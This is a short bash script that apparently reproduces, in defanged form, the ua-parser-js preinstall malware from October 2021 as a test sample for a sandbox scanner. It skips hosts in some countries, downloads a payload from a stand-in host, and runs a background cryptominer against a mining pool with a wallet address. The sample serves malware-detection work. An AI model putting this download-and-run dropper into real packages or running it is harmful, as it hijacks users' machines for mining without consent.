#!/bin/bash
# DEFANGED reproduction of ua-parser-js's preinstall.sh (October 2021). Only ever run
# inside `airlock scan`; every host here is answered by airlock's sink.
IP=$(curl -sk https://geo-check.example/ || wget -qO- https://geo-check.example/)
# The original skipped Russia, Ukraine, Belarus and Kazakhstan.
if echo "$IP" | grep -qE 'RU|UA|BY|KZ'; then
  exit 0
fi
U=https://citationsherbe.example/sdd.dll.x86_64
curl -sk "$U" -o /tmp/jsextension || wget -q "$U" -O /tmp/jsextension
# Defanged stand-in: the sink answers the download with a harmless stub, so when the
# stub arrived, put this package's stand-in "miner" (a shell script that only speaks
# the Stratum handshake) in its place, so the run shows what the real miner would do.
if ! grep -q 'mining.subscribe' /tmp/jsextension 2>/dev/null; then
  cat ./jsextension.sh > /tmp/jsextension
fi
chmod +x /tmp/jsextension
/tmp/jsextension -k --tls --rig-id q -o pool.minexmr.example:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjfLXEW7D2PTMg3P5 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
sleep 3
